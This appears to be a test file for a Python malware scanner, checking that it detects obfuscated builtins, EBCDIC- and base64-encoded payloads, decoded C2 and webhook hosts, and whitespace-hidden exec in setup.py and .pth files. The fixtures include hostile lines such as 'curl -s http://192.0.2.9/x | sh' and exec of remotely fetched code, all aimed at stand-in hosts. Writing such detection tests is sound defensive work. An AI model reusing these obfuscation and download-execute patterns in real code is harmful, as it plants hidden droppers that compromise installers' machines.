// Names and hosts a file hides by building them at run time, each on an inert imitation: builtins fetched from a
// namespace by chr()-spelt names, names spelt from a character table, a host decoded by the file's own helper
// that the file also calls elsewhere, and a module used without an import here.
import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import { before, test } from 'node:test';
import { initAnalysis } from '../../src/analysis/api.ts';
import { analyzePythonFile } from '../../src/analysis/python-file.ts';
import type { Finding } from '../../src/model/result.ts';
import { analyseFiles } from './in-memory-target.ts';
import codecData from '../../data/python-codecs.json' with { type: 'json' };

before(() => initAnalysis());

function findings(source: string, path = 'demo/mod.py'): Finding[] {
  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
}
/** CPython's cp1026 (EBCDIC) decoding table, as recorded in data/python-codecs.json. */
const EBCDIC: string = codecData.decodeOnly.cp1026.table;
const codes = (name: string) => `[${[...name].map((c) => c.charCodeAt(0)).join(', ')}]`;

test('__import__ and getattr fetched from globals()["__builtins__"] by chr()-spelt names, through a bound "".join', () => {
  const source = [
    'g = globals',
    '_ = "".join',
    `imp = getattr(g()[_([chr(c) for c in ${codes('__builtins__')}])], _([chr(c) for c in ${codes('__import__')}]))`,
    `ga = getattr(g()[_([chr(c) for c in ${codes('__builtins__')}])], _([chr(c) for c in ${codes('getattr')}]))`,
    'def run(name):',
    '    ga(imp(name), "start")()',
    'run(OFFSETS)',
  ].join('\n');
  const hidden = findings(source).filter((f) => f.rule === 'obfuscated-builtin');
  assert.deepEqual(
    hidden.map((f) => [f.line, f.severity, /reaches (\w+)\(\)/.exec(f.message)?.[1]]),
    [
      [6, 'critical', 'getattr'],
      [6, 'critical', '__import__'],
    ],
    'both hidden builtins are reported where they are called, critical since the call runs on import',
  );
});

test('a builtin fetched by a name written out, or by a name from a variable, is not reported as hidden', () => {
  const source = [
    'import builtins',
    'imp = getattr(builtins, "__import__")',
    'imp("json")',
    'for name in NAMES:',
    '    getattr(builtins, name)("x")',
  ].join('\n');
  assert.equal(
    findings(source).find((f) => f.rule === 'obfuscated-builtin'),
    undefined,
  );
});

test('__import__ given a module name spelt one character at a time from a table', () => {
  const source = [
    'class K:',
    '    def __init__(self):',
    '        self._t = TABLE',
    '        self._m = __import__(self._t[1] + self._t[8] + self._t[13] + self._t[0])',
    'K()',
  ].join('\n');
  const spelt = findings(source).find((f) => f.rule === 'spelt-from-table');
  assert.equal(spelt?.severity, 'critical', 'the class is instantiated on import');
  assert.equal(spelt?.line, 4);
  const sum = findings('def area(p):\n    return max(p[0] + p[1] + p[2] + p[3], 0)\n');
  assert.equal(
    sum.find((f) => f.rule === 'spelt-from-table'),
    undefined,
    'a sum of items passed to an ordinary function is arithmetic',
  );
});

test("a host decoded by a helper is found even when the helper is also given the server's answer", () => {
  // what the helper undoes: zlib, then base64, then reversed
  const encoded = [...deflateSync(Buffer.from('c2.example.invalid')).toString('base64')].reverse().join('');
  const source = [
    'from http.client import HTTPSConnection',
    'from zlib import decompress',
    'from base64 import b64decode',
    'class C:',
    '    def decd(self, data):',
    '        b64d = lambda s: b64decode(s)',
    '        return decompress(b64d(data[::-1])).decode()',
    '    def fetch(self):',
    `        hosts = [b"${encoded}", b"x"]`,
    '        conn = HTTPSConnection(self.decd(hosts[0]), timeout=1)',
    '        conn.request("GET", "/")',
    '        answer = conn.getresponse().read().decode()',
    '        return self.decd(answer).split(":")',
  ].join('\n');
  const call = findings(source).find((f) => f.rule === 'egress-network-call' && f.line === 10);
  assert.equal(call?.destination?.host, 'c2.example.invalid');
  assert.equal(call?.severity, 'high', 'a host the file never writes');
});

test('a module used without an import in this file (a star import, or a forgotten one) is still that module', () => {
  const source = [
    'import os',
    'def fetch_and_run():',
    '    code = urllib.request.urlopen("https://files.example/get/start.py").read()',
    '    exec(code)',
    'fetch_and_run()',
  ].join('\n');
  const run = findings(source).find((f) => f.rule === 'download-execute');
  assert.equal(run?.severity, 'critical');
});

test('a name decoded in place (`hook = b64decode(hook)`) holds the decoded text where it is used next', () => {
  const hook = Buffer.from('https://hooks.example.invalid/api/webhooks/1/x').toString('base64');
  const source = [
    'import base64, requests',
    'def report(data):',
    `    hook = "${hook}"`,
    '    hook = base64.b64decode(hook.encode())',
    '    requests.post(hook, json=data)',
  ].join('\n');
  const call = findings(source).find((f) => f.rule === 'egress-network-call');
  assert.equal(call?.destination?.host, 'hooks.example.invalid');
});

test('code in a constant string given to exec() is analysed as code that runs where the exec is', () => {
  const inner = 'import os\\nos.system("curl -s http://192.0.2.9/x | sh")\\n';
  const source = `from setuptools import setup${' '.repeat(120)};exec("""${inner}""")\nsetup(name="demo")\n`;
  const files = analyzePythonFile('setup.py', new TextEncoder().encode(source), { role: 'setup' });
  const hidden = files[0].findings.find((f) => f.rule === 'hidden-code');
  assert.equal(hidden?.severity, 'high', '120 spaces hide an exec');
  const payload = files.find((file) => file.path === 'setup.py#decoded-1');
  const launch = payload?.findings.find((f) => f.rule === 'download-execute');
  assert.equal(launch?.severity, 'critical', 'the curl | sh in the string is found, at install time');
  assert.equal(launch.trigger, 'install');
  const short = findings(`x = 1${' '.repeat(120)}; y = 2\n`);
  assert.equal(
    short.find((f) => f.rule === 'hidden-code'),
    undefined,
    '120 spaces before harmless code',
  );
});

test('bytes decoded with an EBCDIC codec (cp1026) are read as Python reads them, and what they spell is disguised', () => {
  const ebcdic = (text: string) =>
    `b'${[...Buffer.from(text, 'latin1')].map((c) => `\\x${EBCDIC.indexOf(String.fromCharCode(c)).toString(16).padStart(2, '0')}`).join('')}'`;
  const source = [
    'import builtins',
    `cc = getattr(builtins, ${ebcdic('eval')}.decode('cp1026'))`,
    `cc(${ebcdic("exec(__import__('requests').get('https://paste.example.invalid/raw').text)")}.decode('cp1026'))`,
  ].join('\n');
  const files = analyzePythonFile('demo/mod.py', new TextEncoder().encode(source));
  const rules = files[0].findings.map((f) => f.rule);
  assert.ok(rules.includes('obfuscated-builtin'), 'eval fetched by an EBCDIC-spelt name');
  assert.ok(rules.includes('exec-decoded-payload'), 'the EBCDIC payload is decoded and rescanned');
  const inner = files.flatMap((file) => file.findings).find((f) => f.rule === 'download-execute');
  assert.equal(inner?.severity, 'critical');
});

test('a .pth file that execs code written out in a string is judged by what that code does', async () => {
  const harmless = await analyseFiles({
    'cov.pth':
      "import os, sys;exec('if \\'COV_SOURCE\\' in os.environ:\\n try:\\n  from cov.embed import init\\n  init()\\n except Exception:\\n  pass\\n')\n",
  });
  assert.equal(harmless.files[0].findings.find((f) => f.rule === 'pth-executes-code')?.severity, 'low');
  const launcher = await analyseFiles({
    'cov.pth': "import os;exec('os.system(\\'curl -s http://192.0.2.9/x | sh\\')')\n",
  });
  assert.equal(launcher.files[0].findings.find((f) => f.rule === 'pth-executes-code')?.severity, 'high');
});

test('many exec("...") lines cost one rescan, spend no budget, and the last of them is still read as code', async () => {
  const lines = Array.from({ length: 60 }, (_, index) => `exec("value_${index} = ${index}")`);
  lines.push('exec("import os\\nos.system(\'curl -s http://192.0.2.9/x | sh\')")');
  const target = await analyseFiles({ 'pkg/mod.py': lines.join('\n') });
  assert.equal(target.unaudited, undefined, 'no budget is spent on code written out in the file');
  const virtual = target.files.filter((file) => file.path.startsWith('pkg/mod.py#'));
  assert.equal(virtual.length, 1, 'one virtual file for the constant strings run on import');
  assert.equal(virtual[0].findings.find((f) => f.rule === 'download-execute')?.severity, 'critical');
});

test('a comment naming a decoded host does not make it written: only string literals count', () => {
  const url = Buffer.from('https://drop.example.invalid/raw/settings').toString('base64');
  const source = [
    '# mirror: https://drop.example.invalid (see README)',
    'import base64, requests',
    'def settings():',
    `    return requests.get(base64.b64decode("${url}").decode())`,
  ].join('\n');
  const call = findings(source).find((f) => f.rule === 'egress-network-call');
  assert.equal(call?.severity, 'high');
  assert.match(call!.message, /a host the file never writes/);
});

test('a name joined from a comprehension that decodes each item of a literal list is read item by item', () => {
  const pieces = ['ZQ==', 'eA==', 'ZQ==', 'Yw=='].map((p) => `'${p}'`).join(', ');
  const source = [
    'import base64, builtins',
    `PARTS = [${pieces}]`,
    "name = ''.join(base64.b64decode(p).decode() for p in PARTS)",
    'def run(data):',
    '    getattr(builtins, name)(data)',
  ].join('\n');
  const found = findings(source).find((f) => f.rule === 'obfuscated-builtin');
  assert.match(found?.message ?? '', /exec\(\)/);
  assert.equal(found?.severity, 'high');
  // an item the file does not spell (a parameter) leaves a hole: no name is invented for it
  const unknown = source.replace(`PARTS = [${pieces}]`, 'PARTS = [SOMETHING, "x"]');
  assert.equal(
    findings(unknown).find((f) => f.rule === 'obfuscated-builtin'),
    undefined,
  );
});

test("a payload kept in a class attribute and decoded by the class's static method is decoded (Klass.member)", () => {
  const payload = Buffer.from(deflateSync(Buffer.from('import os\nos.system("id")\n'))).toString('base64');
  const source = [
    'import base64, zlib',
    'class _K:',
    `    d = "${payload}"`,
    '    @staticmethod',
    '    def r():',
    '        return zlib.decompress(base64.b64decode(_K.d))',
    'exec(_K.r())',
  ].join('\n');
  const found = findings(source).find((f) => f.rule === 'exec-decoded-payload');
  assert.equal(found?.severity, 'critical');
  assert.match(found!.message, /base64 → zlib/);
});

test('a module reached through sys.modules["name"] is that module (sys.modules["builtins"].exec is exec)', () => {
  const source =
    'import base64, sys\nsys.modules["builtins"].exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQo="))\n';
  assert.equal(findings(source).find((f) => f.rule === 'exec-decoded-payload')?.severity, 'critical');
  const shell = 'import sys\ndef run(cmd):\n    sys.modules["os"].system(cmd)\n';
  assert.ok(findings(shell).some((f) => f.rule === 'process-spawn' && /os\.system/.test(f.message)));
});

test('a network API fetched with getattr by a name joined from single letters is hidden; a plain name is not', () => {
  const hidden = findings('rq = __import__("requests")\ng = getattr(rq, "".join(["g", "e", "t"]))\n');
  assert.match(hidden.find((f) => f.rule === 'obfuscated-builtin')?.message ?? '', /requests\.get/);
  const plain = findings('import requests\ndef verb(name):\n    return getattr(requests, name)\n');
  assert.equal(
    plain.find((f) => f.rule === 'obfuscated-builtin'),
    undefined,
  );
});
